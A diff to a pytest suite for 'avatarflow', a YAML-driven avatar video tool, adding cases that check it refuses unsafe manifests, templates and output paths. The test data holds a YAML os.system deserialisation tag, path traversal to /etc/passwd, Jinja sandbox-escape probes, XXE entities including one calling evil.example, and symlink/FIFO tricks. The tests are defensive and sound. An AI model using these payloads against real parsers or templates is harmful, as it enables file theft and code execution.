@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -32,6 +33,21 @@ i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
 """
 
 
+# The course of the narration-file cases: video a reads scripts/a.txt (line 10).
+TEXT_FILE_COURSE = """\
+version: 1
+name: demo
+defaults:
+  template: narration.ssml.j2
+  voice: en-US-AvaMultilingualNeural
+  avatar: {character: lisa, style: graceful-sitting}
+  vars: {title: Intro}
+videos:
+  - id: a
+    text_file: scripts/a.txt
+"""
+
+
 def merge_bomb(levels: int) -> str:
     """``vars`` whose ``<<`` merge keys each merge the level below twice (2**levels if
     expanded naively), followed by a typo on line ``levels + 7``."""
@@ -51,16 +67,21 @@ class Link:
 
 
 @dataclass(frozen=True)
+class Fifo:
+    """A named pipe: reading it would block until someone writes."""
+
+
+@dataclass(frozen=True)
 class Bad:
     """Files written over a valid, recorded course, and the error they must cause."""
 
-    files: dict[str, str | bytes | Link]
+    files: dict[str, str | bytes | Link | Fifo]
     error: str  # the start of the message after "Error: " (file:line: key: message)
     also: tuple[str, ...] = ()  # fragments that must appear in the message as well
     manifest: str = "course.yaml"
 
 
-def bad(files: dict[str, str | bytes | Link], error: str, *also: str) -> Bad:
+def bad(files: dict[str, str | bytes | Link | Fifo], error: str, *also: str) -> Bad:
     return Bad(files, error, also)
 
 
@@ -95,13 +116,18 @@ def assert_one_error(result: Result, error: str, also: tuple[str, ...] = ()) -> 
     return line
 
 
-def write(root: Path, files: dict[str, str | bytes | Link]) -> None:
+def write(root: Path, files: dict[str, str | bytes | Link | Fifo]) -> None:
     for rel, content in files.items():
         path = root / rel
         path.parent.mkdir(parents=True, exist_ok=True)
-        if isinstance(content, Link):
+        if isinstance(content, Link | Fifo):
+            if path.is_dir() and not path.is_symlink():
+                shutil.rmtree(path)
             path.unlink(missing_ok=True)
-            path.symlink_to(content.target)
+            if isinstance(content, Fifo):
+                os.mkfifo(path)
+            else:
+                path.symlink_to(content.target)
         else:
             make_tree(root, {rel: content})
 
@@ -1108,6 +1134,151 @@ MANIFEST_CASES: dict[str, Bad] = {
     "manifest-is-a-directory": Bad(
         {"folder.yaml/keep": "x"}, "folder.yaml: cannot read manifest: ", manifest="folder.yaml"
     ),
+    "manifest-is-a-fifo": Bad(
+        {"pipe.yaml": Fifo()},
+        "pipe.yaml: cannot read manifest: not a regular file",
+        manifest="pipe.yaml",
+    ),
+    "manifest-binary-garbage": bad(
+        {"course.yaml": bytes(range(256)) * 64},
+        "course.yaml:2: not UTF-8 text (byte 128); is it a binary file?",
+    ),
+    "manifest-is-a-png": bad(
+        {"course.yaml": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8},
+        "course.yaml:1: not UTF-8 text (byte 0); is it a binary file?",
+    ),
+    "yaml-python-object-apply": bad(
+        {"course.yaml": "version: 1\nname: !!python/object/apply:os.system ['echo pwned']\n"},
+        "course.yaml:2: name: unsupported YAML tag '!!python/object/apply:os.system'",
+    ),
+    "text-file-huge": bad(
+        {
+            "course.yaml": TEXT_FILE_COURSE,
+            "scripts/a.txt": "word " * 400_000,
+        },
+        "course.yaml:10: videos[0].text_file: text file 'scripts/a.txt' is larger than 500 KB, "
+        "more than one request can carry",
+    ),
+    "text-file-is-a-fifo": bad(
+        {
+            "course.yaml": TEXT_FILE_COURSE,
+            "scripts/a.txt": Fifo(),
+        },
+        "course.yaml:10: videos[0].text_file: cannot read text file 'scripts/a.txt': "
+        "not a regular file",
+    ),
+    "text-file-is-a-directory": bad(
+        {
+            "course.yaml": TEXT_FILE_COURSE,
+            "scripts/a.txt/keep": "x",
+        },
+        "course.yaml:10: videos[0].text_file: cannot read text file 'scripts/a.txt': ",
+    ),
+    "name-path-traversal": bad(
+        {"course.yaml": "version: 1\nname: ../../evil\nvideos: [{id: a, text: Hi}]\n"},
+        "course.yaml:2: name: '../../evil' may only use letters, digits, '.', '_' and '-'",
+    ),
+    "id-dot-dot": bad(
+        {"course.yaml": "version: 1\nname: demo\nvideos: [{id: '..', text: Hi}]\n"},
+        "course.yaml:3: videos[0].id: id '..' may only use letters, digits, '.', '_' and '-'",
+    ),
+    "draft-dir-escapes-folder": bad(
+        {
+            "course.yaml": "version: 1\nname: demo\ndraft_dir: ../drafts\n"
+            "videos: [{id: a, text: Hi}]\n"
+        },
+        "course.yaml:3: draft_dir: '../drafts' points outside the manifest's folder",
+    ),
+    "output-dir-absolute": bad(
+        {
+            "course.yaml": "version: 1\nname: demo\noutput_dir: /tmp/out\n"
+            "videos: [{id: a, text: Hi}]\n"
+        },
+        "course.yaml:3: output_dir: '/tmp/out' points outside the manifest's folder",
+    ),
+    "output-dir-symlinked-outside": bad(
+        {"../elsewhere/keep": "x", "build/videos": Link("../../elsewhere")},
+        "course.yaml:1: output_dir: 'build/videos' points outside the manifest's folder",
+    ),
+    "template-symlinked-outside": bad(
+        {
+            "../secret.j2": "<speak>secret</speak>",
+            "templates/narration.ssml.j2": Link("../../secret.j2"),
+        },
+        "course.yaml:4: defaults.template: template 'narration.ssml.j2' points outside the "
+        "templates folder",
+    ),
+    "template-include-symlinked-outside": bad(
+        {
+            "../secret.j2": "secret",
+            "templates/leak.j2": Link("../../secret.j2"),
+            "templates/narration.ssml.j2": """\
+            <speak version="1.0" xml:lang="en-US">
+              <voice name="{{ video.voice }}">{% include 'leak.j2' %} {{ text }}</voice>
+            </speak>
+            """,
+        },
+        "templates/narration.ssml.j2:2: template 'leak.j2' points outside the templates folder",
+    ),
+    "template-extends-absolute": bad(
+        {"templates/narration.ssml.j2": "{% extends '/etc/passwd' %}"},
+        "templates/narration.ssml.j2:1: template '/etc/passwd' not found (video a)",
+    ),
+    "template-import-outside": bad(
+        {
+            "templates/narration.ssml.j2": "{% import '../course.yaml' as m %}"
+            "<speak version='1.0' xml:lang='en-US'>{{ text }}</speak>"
+        },
+        "templates/narration.ssml.j2:1: template '../course.yaml' not found (video a)",
+    ),
+    "template-sandbox-format-string": bad(
+        {
+            "templates/narration.ssml.j2": "<speak version='1.0' xml:lang='en-US'>"
+            "{{ '{0.__class__.__mro__}'.format(text) }}{{ text }}</speak>"
+        },
+        "templates/narration.ssml.j2:1: not allowed in templates: ",
+        "'__class__'",
+    ),
+    "template-sandbox-self-context": bad(
+        {
+            "templates/narration.ssml.j2": "<speak version='1.0' xml:lang='en-US'>"
+            "{{ self._TemplateReference__context }}{{ text }}</speak>"
+        },
+        "templates/narration.ssml.j2:1: not allowed in templates: ",
+        "'_TemplateReference__context'",
+    ),
+    "template-sandbox-attr-filter": bad(
+        {
+            "templates/narration.ssml.j2": "<speak version='1.0' xml:lang='en-US'>"
+            "{{ text|attr('__class__') }}{{ text }}</speak>"
+        },
+        "templates/narration.ssml.j2:1: not allowed in templates: ",
+        "'__class__'",
+    ),
+    "template-renders-xxe": bad(
+        {
+            "templates/narration.ssml.j2": "<!DOCTYPE speak [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
+            "<speak version='1.0' xml:lang='en-US'>&x;{{ text }}</speak>"
+        },
+        "templates/narration.ssml.j2: SSML must not contain a DOCTYPE or ENTITY declaration",
+    ),
+    "ssml-xxe-parameter-entity": bad(
+        {
+            "course.yaml": """\
+            version: 1
+            name: demo
+            defaults:
+              voice: en-US-AvaMultilingualNeural
+              avatar: {character: lisa, style: graceful-sitting}
+            videos:
+              - id: a
+                ssml: |
+                  <!DOCTYPE speak [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
+                  <speak version='1.0' xml:lang='en-US'>hi</speak>
+            """
+        },
+        "course.yaml:8: videos[0].ssml: SSML must not contain a DOCTYPE or ENTITY declaration",
+    ),
 }
 
 
@@ -1131,6 +1302,45 @@ def test_bad_manifest_is_one_clean_error(recorded: Path, case: Bad, command: str
     assert_one_error(result, case.error, case.also)
     assert snapshot(recorded.parent) == before
     assert not (recorded.parent / "avatarflow-crash.log").exists()
+
+
+# -- the outputs ---------------------------------------------------------------------------
+
+OUTPUT_CASES: dict[str, Bad] = {
+    "output-symlinked-outside": bad(
+        {"../precious.mp4": "keep me", "build/videos/a.mp4": Link("../../../precious.mp4")},
+        "course.yaml:10: videos[0].id: output build/videos/a.mp4 is a symbolic link; "
+        "avatarflow writes only regular files there (move it away)",
+    ),
+    "output-symlinked-inside": bad(
+        {"build/videos/b.mp4": Link("a.mp4")},
+        "course.yaml:12: videos[1].id: output build/videos/b.mp4 is a symbolic link",
+    ),
+    "output-is-a-pipe": bad(
+        {"build/videos/b.mp4": Fifo()},
+        "course.yaml:12: videos[1].id: output build/videos/b.mp4 exists and is not a regular file",
+    ),
+    "output-folder-is-a-file": bad(
+        {"build/videos": Link("../course.yaml")},
+        "course.yaml:1: output_dir: output folder 'build/videos' exists and is not a folder",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", OUTPUT_CASES.values(), ids=OUTPUT_CASES.keys())
+def test_unsafe_output_path_is_refused_before_anything_is_written(
+    recorded: Path, case: Bad, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """apply would replace the path with a downloaded file: a symlink (and whatever it
+    points at), a pipe or a folder in its way is the user's, so nothing starts."""
+    monkeypatch.delenv("AZURE_SPEECH_KEY", raising=False)
+    monkeypatch.setenv("AZURE_SPEECH_ENDPOINT", "http://127.0.0.1:9")  # nothing may be sent
+    write(recorded, case.files)
+    before = snapshot(recorded.parent)
+    for args in (["plan"], ["apply", "--yes"], ["apply", "--yes", "--replace", "a"]):
+        assert_one_error(run_cli(*args, str(recorded / "course.yaml")), case.error, case.also)
+    assert snapshot(recorded.parent) == before
+    assert run_cli("validate", str(recorded / "course.yaml")).code == 0
 
 
 # -- the state ---------------------------------------------------------------------------
